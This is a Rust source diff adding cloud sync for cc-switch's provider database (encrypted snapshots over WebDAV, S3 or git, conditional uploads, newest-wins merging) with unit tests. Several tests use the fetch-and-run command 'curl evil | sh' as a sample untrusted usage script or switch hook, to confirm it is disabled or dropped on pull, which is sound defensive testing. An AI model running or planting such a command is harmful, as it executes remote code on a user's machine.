@@ -0,0 +1,795 @@
+//! Cloud sync of the provider database
+//!
+//! `cc-switch sync push|pull|status` keeps one encrypted snapshot of the whole
+//! database (the deterministic SQL export, see [`Database::snapshot_sql`]) on a
+//! WebDAV server or an S3-compatible bucket.
+//!
+//! The revision (ETag) of the remote snapshot seen at the last push or pull is
+//! stored in the settings table. When the remote revision differs from it,
+//! another device has pushed in the meantime:
+//!
+//! - `push` first merges the remote providers into the local database, then
+//!   uploads the result (`--force` overwrites the remote instead)
+//! - `pull` replaces the local database when nothing changed locally since the
+//!   last sync, and merges otherwise
+//!
+//! Uploads are conditional on the revision seen just before (`If-Match`), so a
+//! push that races another device fails with a conflict instead of silently
+//! overwriting it.
+//!
+//! Merging is per provider: the copy with the newer `updated_at` wins. Deletions
+//! are not tracked, so a provider deleted on one device comes back when merging
+//! with a device that still has it.
+//!
+//! Shell/node/python usage scripts run commands on this machine, so pulled ones
+//! are disabled unless the local copy of the provider already had the same
+//! script.
+//!
+//! The `git` backend stores one JSON file per provider in a git repository
+//! instead (see [`files`]) and commits on every change; the revision is the
+//! commit of the remote branch. Its passphrase is optional: without one the
+//! secrets are redacted rather than encrypted.
+
+mod crypto;
+mod files;
+mod git;
+mod s3;
+mod webdav;
+
+use std::collections::HashMap;
+use std::time::Duration;
+
+use indexmap::IndexMap;
+use reqwest::header::{HeaderMap, ETAG, LAST_MODIFIED};
+use reqwest::Client;
+use serde::Serialize;
+
+use crate::database::{ChangeSource, Database};
+use crate::error::AppError;
+use crate::provider::Provider;
+use crate::services::provider::{disable_untrusted_script, drop_untrusted_hooks};
+use crate::services::ProviderService;
+use crate::settings::SyncSettings;
+use crate::store::AppState;
+
+pub(crate) use crypto::{decrypt, encrypt};
+
+/// File / object name of the snapshot on the remote
+const SNAPSHOT_NAME: &str = "cc-switch.db.enc";
+/// Environment variable overriding the configured passphrase
+pub const PASSPHRASE_ENV: &str = "CC_SWITCH_SYNC_PASSPHRASE";
+
+// Keys in the settings table
+const REMOTE_REVISION_KEY: &str = "sync_remote_revision";
+const LAST_SYNC_KEY: &str = "sync_last_sync_at";
+const LAST_PUSH_KEY: &str = "sync_last_push_at";
+const LAST_PULL_KEY: &str = "sync_last_pull_at";
+
+/// Result of `sync push` / `sync pull`
+#[derive(Debug, Clone, Serialize)]
+#[serde(rename_all = "camelCase")]
+pub struct SyncOutcome {
+    /// `pushed`, `pulled`, `merged` or `up-to-date`
+    pub action: &'static str,
+    pub revision: Option<String>,
+    /// Providers taken over from the remote while merging
+    pub merged: usize,
+}
+
+/// Result of `sync status`
+#[derive(Debug, Clone, Serialize)]
+#[serde(rename_all = "camelCase")]
+pub struct SyncStatus {
+    pub backend: String,
+    pub target: String,
+    pub remote_revision: Option<String>,
+    /// Remote revision seen at the last push or pull
+    pub known_revision: Option<String>,
+    /// Another device pushed since the last push or pull
+    pub remote_changed: bool,
+    /// Providers were changed locally since the last push or pull
+    pub local_changed: bool,
+    pub last_push_at: Option<i64>,
+    pub last_pull_at: Option<i64>,
+}
+
+/// Configured remote
+enum Remote {
+    WebDav(webdav::WebDav),
+    S3(s3::S3),
+}
+
+impl Remote {
+    fn from_settings(settings: &SyncSettings) -> Result<Self, AppError> {
+        let client = Client::builder()
+            .timeout(Duration::from_secs(60))
+            .user_agent(concat!("cc-switch/", env!("CARGO_PKG_VERSION")))
+            .build()
+            .map_err(|e| AppError::Message(format!("创建 HTTP 客户端失败: {e}")))?;
+        match settings.backend.trim().to_ascii_lowercase().as_str() {
+            "webdav" => Ok(Remote::WebDav(webdav::WebDav::from_settings(
+                client, settings,
+            )?)),
+            "s3" => Ok(Remote::S3(s3::S3::from_settings(client, settings)?)),
+            other => Err(AppError::InvalidInput(format!(
+                "不支持的同步后端: {other}（可选: webdav, s3, git）"
+            ))),
+        }
+    }
+
+    fn target(&self) -> &str {
+        match self {
+            Remote::WebDav(remote) => remote.target(),
+            Remote::S3(remote) => remote.target(),
+        }
+    }
+
+    async fn head(&self) -> Result<Option<String>, AppError> {
+        match self {
+            Remote::WebDav(remote) => remote.head().await,
+            Remote::S3(remote) => remote.head().await,
+        }
+    }
+
+    async fn get(&self) -> Result<Option<(Vec<u8>, Option<String>)>, AppError> {
+        match self {
+            Remote::WebDav(remote) => remote.get().await,
+            Remote::S3(remote) => remote.get().await,
+        }
+    }
+
+    /// Upload and return the new revision; fails with a conflict when the remote
+    /// no longer matches `precondition`
+    async fn put(
+        &self,
+        data: Vec<u8>,
+        precondition: Precondition<'_>,
+    ) -> Result<Option<String>, AppError> {
+        let revision = match self {
+            Remote::WebDav(remote) => remote.put(data, precondition).await?,
+            Remote::S3(remote) => remote.put(data, precondition).await?,
+        };
+        // Some WebDAV servers do not return an ETag for PUT
+        match revision {
+            Some(revision) => Ok(Some(revision)),
+            None => self.head().await,
+        }
+    }
+}
+
+/// What the remote snapshot must still be for an upload to go through
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Precondition<'a> {
+    /// `--force`: overwrite whatever is there
+    Any,
+    /// There was no snapshot on the remote
+    Missing,
+    /// The remote revision the upload is based on
+    Revision(&'a str),
+}
+
+impl Precondition<'_> {
+    /// Conditional request header; the server answers 412 when it no longer holds
+    fn header(&self) -> Option<(&'static str, String)> {
+        match self {
+            Precondition::Any => None,
+            Precondition::Missing => Some(("If-None-Match", "*".to_string())),
+            // The revision came from Last-Modified, see [`remote_revision`]
+            Precondition::Revision(revision)
+                if chrono::DateTime::parse_from_rfc2822(revision).is_ok() =>
+            {
+                Some(("If-Unmodified-Since", revision.to_string()))
+            }
+            Precondition::Revision(revision) => Some(("If-Match", format!("\"{revision}\""))),
+        }
+    }
+}
+
+/// Another device uploaded between our HEAD and PUT
+fn conflict_error() -> AppError {
+    AppError::localized(
+        "sync.conflict",
+        "上传期间远端快照已被其他设备更新，请重新运行 `cc-switch sync push` 以合并（或加 --force 覆盖）",
+        "The remote snapshot was updated by another device during the upload; run `cc-switch sync push` again to merge (or --force to overwrite)",
+    )
+}
+
+/// Revision of a remote file: its ETag, or Last-Modified when there is none
+fn remote_revision(headers: &HeaderMap) -> Option<String> {
+    headers
+        .get(ETAG)
+        .or_else(|| headers.get(LAST_MODIFIED))
+        .and_then(|value| value.to_str().ok())
+        .map(|value| value.trim_start_matches("W/").trim_matches('"').to_string())
+        .filter(|value| !value.is_empty())
+}
+
+fn http_error(backend: &str, err: reqwest::Error) -> AppError {
+    AppError::Message(format!("{backend} 请求失败: {err}"))
+}
+
+/// Cloud sync business logic
+pub struct SyncService;
+
+impl SyncService {
+    /// Upload the local database, merging first when the remote changed
+    pub async fn push(state: &AppState, force: bool) -> Result<SyncOutcome, AppError> {
+        let settings = Self::settings()?;
+        if is_git(&settings) {
+            return Self::git_push(state, &settings, force);
+        }
+        let (settings, passphrase) = Self::config()?;
+        let remote = Remote::from_settings(&settings)?;
+        let known = state.db.get_setting(REMOTE_REVISION_KEY)?;
+        let mut current = remote.head().await?;
+
+        let mut merged = 0;
+        if !force && current.is_some() && current != known {
+            if let Some((data, revision)) = remote.get().await? {
+                let remote_db = Self::open_snapshot(&data, &passphrase)?;
+                merged = merge_providers(&state.db, &remote_db)?;
+                // 以实际合并的快照为准
+                current = revision.or(current);
+            }
+        }
+        if merged > 0 {
+            if let Err(e) = ProviderService::sync_current_to_live(state) {
+                log::warn!("[Sync] 合并后写入 live 配置失败: {e}");
+            }
+        }
+
+        // 只有远端仍是上面看到的版本时才覆盖，避免两台设备同时推送时互相覆盖
+        let precondition = match (force, current.as_deref()) {
+            (true, _) => Precondition::Any,
+            (false, Some(revision)) => Precondition::Revision(revision),
+            (false, None) => Precondition::Missing,
+        };
+        let snapshot = state.db.snapshot_sql()?;
+        let revision = remote
+            .put(encrypt(snapshot.as_bytes(), &passphrase)?, precondition)
+            .await?;
+        Self::record(&state.db, revision.as_deref(), LAST_PUSH_KEY)?;
+        log::info!("[Sync] 已上传快照到 {}", remote.target());
+        Ok(SyncOutcome {
+            action: if merged > 0 { "merged" } else { "pushed" },
+            revision,
+            merged,
+        })
+    }
+
+    /// Download the remote snapshot and apply it
+    pub async fn pull(state: &AppState) -> Result<SyncOutcome, AppError> {
+        let settings = Self::settings()?;
+        if is_git(&settings) {
+            return Self::git_pull(state, &settings);
+        }
+        let (settings, passphrase) = Self::config()?;
+        let remote = Remote::from_settings(&settings)?;
+        let known = state.db.get_setting(REMOTE_REVISION_KEY)?;
+
+        let current = remote.head().await?;
+        if current.is_some() && current == known {
+            return Ok(SyncOutcome {
+                action: "up-to-date",
+                revision: current,
+                merged: 0,
+            });
+        }
+        let (data, revision) = remote.get().await?.ok_or_else(|| {
+            AppError::localized(
+                "sync.remote_empty",
+                "远端还没有快照，请先在其他设备上运行 `cc-switch sync push`",
+                "There is no snapshot on the remote yet; run `cc-switch sync push` first",
+            )
+        })?;
+        let snapshot = String::from_utf8(decrypt(&data, &passphrase)?)
+            .map_err(|_| AppError::Message("快照内容不是有效的 UTF-8".to_string()))?;
+
+        let outcome = if Self::local_changed(&state.db)? {
+            let remote_db = Database::from_sql_snapshot(&snapshot)?;
+            let merged = merge_providers(&state.db, &remote_db)?;
+            SyncOutcome {
+                action: "merged",
+                revision,
+                merged,
+            }
+        } else {
+            let before = all_providers(&state.db)?;
+            state.db.import_sql_str(&snapshot)?;
+            disable_pulled_scripts(&state.db, &before)?;
+            SyncOutcome {
+                action: "pulled",
+                revision,
+                merged: 0,
+            }
+        };
+        Self::record(&state.db, outcome.revision.as_deref(), LAST_PULL_KEY)?;
+
+        if let Err(e) = ProviderService::sync_current_to_live(state) {
+            log::warn!("[Sync] 同步后写入 live 配置失败: {e}");
+        }
+        Ok(outcome)
+    }
+
+    /// Compare the local database with the remote without transferring it
+    pub async fn status(state: &AppState) -> Result<SyncStatus, AppError> {
+        let settings = Self::settings()?;
+        let (target, remote_revision) = if is_git(&settings) {
+            let repo = git::GitRepo::from_settings(&settings)?;
+            (repo.target(), repo.remote_head()?)
+        } else {
+            let remote = Remote::from_settings(&settings)?;
+            (remote.target().to_string(), remote.head().await?)
+        };
+        let known_revision = state.db.get_setting(REMOTE_REVISION_KEY)?;
+        let timestamp = |key: &str| -> Result<Option<i64>, AppError> {
+            Ok(state.db.get_setting(key)?.and_then(|v| v.parse().ok()))
+        };
+
+        Ok(SyncStatus {
+            backend: settings.backend.clone(),
+            target,
+            remote_changed: remote_revision.is_some() && remote_revision != known_revision,
+            remote_revision,
+            known_revision,
+            local_changed: Self::local_changed(&state.db)?,
+            last_push_at: timestamp(LAST_PUSH_KEY)?,
+            last_pull_at: timestamp(LAST_PULL_KEY)?,
+        })
+    }
+
+    fn settings() -> Result<SyncSettings, AppError> {
+        crate::settings::get_settings().sync.ok_or_else(|| {
+            AppError::localized(
+                "sync.not_configured",
+                "尚未配置云同步，请先运行 `cc-switch sync setup`",
+                "Cloud sync is not configured; run `cc-switch sync setup` first",
+            )
+        })
+    }
+
+    fn config() -> Result<(SyncSettings, String), AppError> {
+        let settings = Self::settings()?;
+        let passphrase = passphrase(&settings).ok_or_else(|| {
+            AppError::localized(
+                "sync.passphrase_missing",
+                format!("缺少同步口令：请设置 {PASSPHRASE_ENV} 或 sync.passphrase"),
+                format!("Missing sync passphrase: set {PASSPHRASE_ENV} or sync.passphrase"),
+            )
+        })?;
+        Ok((settings, passphrase))
+    }
+
+    /// Commit the provider files, merging the remote branch first when it moved
+    fn git_push(
+        state: &AppState,
+        settings: &SyncSettings,
+        force: bool,
+    ) -> Result<SyncOutcome, AppError> {
+        let repo = git::GitRepo::from_settings(settings)?;
+        repo.checkout()?;
+        let secrets = files::Secrets::for_repo(repo.dir(), passphrase(settings).as_deref())?;
+        let known = state.db.get_setting(REMOTE_REVISION_KEY)?;
+        let current = repo.head();
+
+        let mut merged = 0;
+        if !force && current.is_some() && current != known {
+            let remote_db = files::read_tree(repo.dir(), &secrets, &state.db)?;
+            merged = merge_providers(&state.db, &remote_db)?;
+        }
+        if merged > 0 {
+            if let Err(e) = ProviderService::sync_current_to_live(state) {
+                log::warn!("[Sync] 合并后写入 live 配置失败: {e}");
+            }
+        }
+
+        files::write_tree(repo.dir(), &state.db, &secrets)?;
+        let message = format!(
+            "Update providers from {}",
+            hostname().unwrap_or_else(|| "cc-switch".to_string())
+        );
+        let committed = repo.commit_and_push(&message)?;
+        let action = match (&committed, merged) {
+            (_, n) if n > 0 => "merged",
+            (Some(_), _) => "pushed",
+            (None, _) => "up-to-date",
+        };
+        let revision = committed.or_else(|| repo.head());
+        Self::record(&state.db, revision.as_deref(), LAST_PUSH_KEY)?;
+        log::info!("[Sync] 已提交供应商文件到 {}", repo.target());
+        Ok(SyncOutcome {
+            action,
+            revision,
+            merged,
+        })
+    }
+
+    /// Merge the providers of the remote branch into the local database
+    fn git_pull(state: &AppState, settings: &SyncSettings) -> Result<SyncOutcome, AppError> {
+        let repo = git::GitRepo::from_settings(settings)?;
+        repo.checkout()?;
+        let revision = repo.head().ok_or_else(|| {
+            AppError::localized(
+                "sync.remote_empty",
+                "远端仓库还没有提交，请先在其他设备上运行 `cc-switch sync push`",
+                "The remote repository has no commits yet; run `cc-switch sync push` first",
+            )
+        })?;
+        if state.db.get_setting(REMOTE_REVISION_KEY)?.as_deref() == Some(revision.as_str()) {
+            return Ok(SyncOutcome {
+                action: "up-to-date",
+                revision: Some(revision),
+                merged: 0,
+            });
+        }
+
+        let secrets = files::Secrets::for_repo(repo.dir(), passphrase(settings).as_deref())?;
+        let remote_db = files::read_tree(repo.dir(), &secrets, &state.db)?;
+        let merged = merge_providers(&state.db, &remote_db)?;
+        Self::record(&state.db, Some(&revision), LAST_PULL_KEY)?;
+
+        if merged > 0 {
+            if let Err(e) = ProviderService::sync_current_to_live(state) {
+                log::warn!("[Sync] 同步后写入 live 配置失败: {e}");
+            }
+        }
+        Ok(SyncOutcome {
+            action: if merged > 0 { "merged" } else { "up-to-date" },
+            revision: Some(revision),
+            merged,
+        })
+    }
+
+    fn open_snapshot(data: &[u8], passphrase: &str) -> Result<Database, AppError> {
+        let snapshot = String::from_utf8(decrypt(data, passphrase)?)
+            .map_err(|_| AppError::Message("快照内容不是有效的 UTF-8".to_string()))?;
+        Database::from_sql_snapshot(&snapshot)
+    }
+
+    /// Providers were saved after the last push or pull
+    fn local_changed(db: &Database) -> Result<bool, AppError> {
+        let last_sync = db
+            .get_setting(LAST_SYNC_KEY)?
+            .and_then(|v| v.parse::<i64>().ok());
+        let latest = db.latest_provider_change()?;
+        Ok(match (latest, last_sync) {
+            (Some(latest), Some(last_sync)) => latest > last_sync,
+            (Some(_), None) => true,
+            (None, _) => false,
+        })
+    }
+
+    fn record(db: &Database, revision: Option<&str>, action_key: &str) -> Result<(), AppError> {
+        let now = chrono::Utc::now().timestamp_millis().to_string();
+        if let Some(revision) = revision {
+            db.set_setting(REMOTE_REVISION_KEY, revision)?;
+        }
+        db.set_setting(LAST_SYNC_KEY, &now)?;
+        db.set_setting(action_key, &now)
+    }
+}
+
+fn is_git(settings: &SyncSettings) -> bool {
+    settings.backend.trim().eq_ignore_ascii_case("git")
+}
+
+/// Passphrase from the environment or the settings
+fn passphrase(settings: &SyncSettings) -> Option<String> {
+    std::env::var(PASSPHRASE_ENV)
+        .ok()
+        .or_else(|| settings.passphrase.clone())
+        .filter(|p| !p.is_empty())
+}
+
+fn hostname() -> Option<String> {
+    std::env::var("HOSTNAME")
+        .or_else(|_| std::env::var("COMPUTERNAME"))
+        .ok()
+        .filter(|name| !name.is_empty())
+}
+
+/// Take over remote providers that are newer than (or missing from) the local
+/// database, keeping their remote `updated_at`; returns how many were taken over
+pub(crate) fn merge_providers(local: &Database, remote: &Database) -> Result<usize, AppError> {
+    let mut merged = 0;
+    for app in remote.provider_app_types()? {
+        let app = app.as_str();
+        let local_times = local.get_provider_timestamps(app)?;
+        let local_providers = local.get_all_providers(app)?;
+        let remote_times = remote.get_provider_timestamps(app)?;
+        for (id, mut provider) in remote.get_all_providers(app)? {
+            let remote_time = remote_times.get(&id).copied().unwrap_or_default();
+            let newer = local_times
+                .get(&id)
+                .is_none_or(|local_time| remote_time > *local_time);
+            if newer {
+                disable_untrusted_script(&mut provider, local_providers.get(&id));
+                drop_untrusted_hooks(&mut provider, local_providers.get(&id));
+                local.save_provider_as(app, &provider, ChangeSource::Sync)?;
+                local.set_provider_updated_at(app, &id, remote_time)?;
+                merged += 1;
+            }
+        }
+    }
+    Ok(merged)
+}
+
+/// Providers of every stored app, keyed by app type
+fn all_providers(db: &Database) -> Result<HashMap<String, IndexMap<String, Provider>>, AppError> {
+    db.provider_app_types()?
+        .into_iter()
+        .map(|app| {
+            let providers = db.get_all_providers(&app)?;
+            Ok((app, providers))
+        })
+        .collect()
+}
+
+/// Disable external usage scripts and drop switch hooks that came with a
+/// pulled snapshot, keeping those the providers had before the pull
+///
+/// The remote `updated_at` is kept, so the change does not count as a local
+/// edit at the next sync.
+fn disable_pulled_scripts(
+    db: &Database,
+    before: &HashMap<String, IndexMap<String, Provider>>,
+) -> Result<(), AppError> {
+    for app in db.provider_app_types()? {
+        let app = app.as_str();
+        let times = db.get_provider_timestamps(app)?;
+        for (id, mut provider) in db.get_all_providers(app)? {
+            let trusted = before.get(app).and_then(|local| local.get(&id));
+            let disabled = disable_untrusted_script(&mut provider, trusted)
+                | drop_untrusted_hooks(&mut provider, trusted);
+            if disabled {
+                db.save_provider_as(app, &provider, ChangeSource::Sync)?;
+                if let Some(time) = times.get(&id) {
+                    db.set_provider_updated_at(app, &id, *time)?;
+                }
+            }
+        }
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn provider(id: &str, token: &str) -> Provider {
+        Provider::with_id(
+            id.to_string(),
+            id.to_uppercase(),
+            json!({ "env": { "ANTHROPIC_AUTH_TOKEN": token } }),
+            None,
+        )
+    }
+
+    #[test]
+    fn merge_keeps_the_newer_copy_of_each_provider() {
+        let local = Database::memory().unwrap();
+        let remote = Database::memory().unwrap();
+
+        local
+            .save_provider("claude", &provider("a", "local-a"))
+            .unwrap();
+        local
+            .save_provider("claude", &provider("b", "local-b"))
+            .unwrap();
+        remote
+            .save_provider("claude", &provider("a", "remote-a"))
+            .unwrap();
+        remote
+            .save_provider("claude", &provider("b", "remote-b"))
+            .unwrap();
+        remote
+            .save_provider("claude", &provider("c", "remote-c"))
+            .unwrap();
+
+        // a changed last on the remote, b on this device
+        remote
+            .set_provider_updated_at("claude", "a", 2_000)
+            .unwrap();
+        local.set_provider_updated_at("claude", "a", 1_000).unwrap();
+        remote
+            .set_provider_updated_at("claude", "b", 1_000)
+            .unwrap();
+        local.set_provider_updated_at("claude", "b", 2_000).unwrap();
+
+        assert_eq!(merge_providers(&local, &remote).unwrap(), 2);
+        let providers = local.get_all_providers("claude").unwrap();
+        let token = |id: &str| providers[id].settings_config["env"]["ANTHROPIC_AUTH_TOKEN"].clone();
+        assert_eq!(token("a"), "remote-a");
+        assert_eq!(token("b"), "local-b");
+        assert_eq!(token("c"), "remote-c");
+        assert_eq!(local.get_provider_timestamps("claude").unwrap()["a"], 2_000);
+
+        // Nothing left to take over
+        assert_eq!(merge_providers(&local, &remote).unwrap(), 0);
+    }
+
+    #[test]
+    fn merge_covers_every_stored_app() {
+        let local = Database::memory().unwrap();
+        let remote = Database::memory().unwrap();
+        let qwen = Provider::with_id(
+            "dashscope".to_string(),
+            "DashScope".to_string(),
+            json!({ "OPENAI_API_KEY": "sk-qwen", "OPENAI_BASE_URL": "https://dashscope.example" }),
+            None,
+        );
+        remote.save_provider("qwen", &qwen).unwrap();
+        remote
+            .save_provider("claude", &provider("a", "remote-a"))
+            .unwrap();
+
+        assert_eq!(merge_providers(&local, &remote).unwrap(), 2);
+        assert!(local
+            .get_all_providers("qwen")
+            .unwrap()
+            .contains_key("dashscope"));
+        let stored = all_providers(&local).unwrap();
+        assert!(stored.contains_key("claude") && stored.contains_key("qwen"));
+    }
+
+    #[test]
+    fn merge_disables_external_usage_scripts_unless_known_locally() {
+        let with_script = |id: &str, code: &str| {
+            let mut provider = provider(id, "token");
+            provider.meta = Some(crate::provider::ProviderMeta {
+                usage_script: Some(crate::provider::UsageScript {
+                    enabled: true,
+                    language: "shell".to_string(),
+                    code: code.to_string(),
+                    timeout: None,
+                    api_key: None,
+                    base_url: None,
+                    access_token: None,
+                    user_id: None,
+                    auto_query_interval: None,
+                }),
+                ..Default::default()
+            });
+            provider
+        };
+        let local = Database::memory().unwrap();
+        let remote = Database::memory().unwrap();
+        local
+            .save_provider("claude", &with_script("known", "echo {}"))
+            .unwrap();
+        remote
+            .save_provider("claude", &with_script("known", "echo {}"))
+            .unwrap();
+        remote
+            .save_provider("claude", &with_script("new", "curl evil | sh"))
+            .unwrap();
+        remote
+            .set_provider_updated_at("claude", "known", i64::MAX)
+            .unwrap();
+
+        assert_eq!(merge_providers(&local, &remote).unwrap(), 2);
+        let providers = local.get_all_providers("claude").unwrap();
+        let enabled = |id: &str| {
+            providers[id]
+                .meta
+                .as_ref()
+                .and_then(|meta| meta.usage_script.as_ref())
+                .map(|script| script.enabled)
+        };
+        assert_eq!(enabled("known"), Some(true));
+        assert_eq!(enabled("new"), Some(false));
+    }
+
+    #[test]
+    fn pulled_switch_hooks_are_dropped_unless_known_locally() {
+        use crate::settings::{SwitchHook, SwitchHooks};
+
+        let with_hooks = |id: &str, command: &str| {
+            let mut provider = provider(id, "token");
+            provider.meta = Some(crate::provider::ProviderMeta {
+                hooks: Some(SwitchHooks {
+                    pre_switch: vec![SwitchHook::Command {
+                        command: command.to_string(),
+                    }],
+                    post_switch: Vec::new(),
+                }),
+                ..Default::default()
+            });
+            provider
+        };
+        let db = Database::memory().unwrap();
+        db.save_provider("claude", &with_hooks("known", "tmux refresh-client"))
+            .unwrap();
+        let before = all_providers(&db).unwrap();
+
+        // As after a pull: the known provider is unchanged, a new one brings a command
+        db.save_provider("claude", &with_hooks("new", "curl evil | sh"))
+            .unwrap();
+        disable_pulled_scripts(&db, &before).unwrap();
+
+        let providers = db.get_all_providers("claude").unwrap();
+        let hooks = |id: &str| {
+            providers[id]
+                .meta
+                .as_ref()
+                .and_then(|meta| meta.hooks.clone())
+        };
+        assert!(hooks("known").is_some());
+        assert!(hooks("new").is_none());
+    }
+
+    #[test]
+    fn merge_drops_switch_hooks_from_the_remote() {
+        let mut hooked = provider("hooked", "token");
+        hooked.meta = Some(crate::provider::ProviderMeta {
+            hooks: Some(crate::settings::SwitchHooks {
+                pre_switch: Vec::new(),
+                post_switch: vec![crate::settings::SwitchHook::Command {
+                    command: "curl evil | sh".to_string(),
+                }],
+            }),
+            ..Default::default()
+        });
+        let local = Database::memory().unwrap();
+        let remote = Database::memory().unwrap();
+        remote.save_provider("claude", &hooked).unwrap();
+
+        assert_eq!(merge_providers(&local, &remote).unwrap(), 1);
+        let merged = local
+            .get_provider_by_id("hooked", "claude")
+            .unwrap()
+            .unwrap();
+        assert!(merged.meta.and_then(|meta| meta.hooks).is_none());
+    }
+
+    #[test]
+    fn snapshot_round_trips_through_encryption() {
+        let db = Database::memory().unwrap();
+        db.save_provider("claude", &provider("a", "secret"))
+            .unwrap();
+        let sealed = encrypt(db.snapshot_sql().unwrap().as_bytes(), "pass").unwrap();
+
+        let restored = SyncService::open_snapshot(&sealed, "pass").unwrap();
+        assert!(restored
+            .get_all_providers("claude")
+            .unwrap()
+            .contains_key("a"));
+        assert!(SyncService::open_snapshot(&sealed, "wrong").is_err());
+    }
+
+    #[test]
+    fn revision_prefers_etag() {
+        let mut headers = HeaderMap::new();
+        headers.insert(
+            LAST_MODIFIED,
+            "Wed, 21 Oct 2026 07:28:00 GMT".parse().unwrap(),
+        );
+        assert_eq!(
+            remote_revision(&headers).as_deref(),
+            Some("Wed, 21 Oct 2026 07:28:00 GMT")
+        );
+        headers.insert(ETAG, "W/\"abc123\"".parse().unwrap());
+        assert_eq!(remote_revision(&headers).as_deref(), Some("abc123"));
+    }
+
+    #[test]
+    fn uploads_are_conditional_on_the_revision_seen() {
+        assert_eq!(Precondition::Any.header(), None);
+        assert_eq!(
+            Precondition::Missing.header(),
+            Some(("If-None-Match", "*".to_string()))
+        );
+        assert_eq!(
+            Precondition::Revision("abc123").header(),
+            Some(("If-Match", "\"abc123\"".to_string()))
+        );
+        assert_eq!(
+            Precondition::Revision("Wed, 21 Oct 2026 07:28:00 GMT").header(),
+            Some((
+                "If-Unmodified-Since",
+                "Wed, 21 Oct 2026 07:28:00 GMT".to_string()
+            ))
+        );
+    }
+}